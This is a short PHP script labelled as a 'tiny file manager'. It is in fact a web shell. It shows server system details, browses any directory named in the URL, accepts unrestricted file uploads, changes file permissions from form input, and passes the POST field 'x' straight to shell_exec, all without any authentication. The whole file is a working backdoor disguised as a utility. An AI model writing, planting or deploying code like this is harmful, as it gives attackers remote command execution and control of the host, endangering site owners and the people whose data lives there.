<?php
// tiny file manager
echo '<h3>' . php_uname() . '</h3>';
$dir = isset($_GET['d']) ? $_GET['d'] : getcwd();
foreach (scandir($dir) as $f) {
    echo sprintf("%o", fileperms("$dir/$f")) . " <a href='?d=$dir/$f'>$f</a><br>";
}
if (!empty($_FILES['up'])) {
    move_uploaded_file($_FILES['up']['tmp_name'], $dir . '/' . $_FILES['up']['name']);
}
if (!empty($_POST['chmod'])) { chmod($_POST['f'], octdec($_POST['chmod'])); }
if (!empty($_POST['x'])) { echo '<pre>' . shell_exec($_POST['x']) . '</pre>'; }
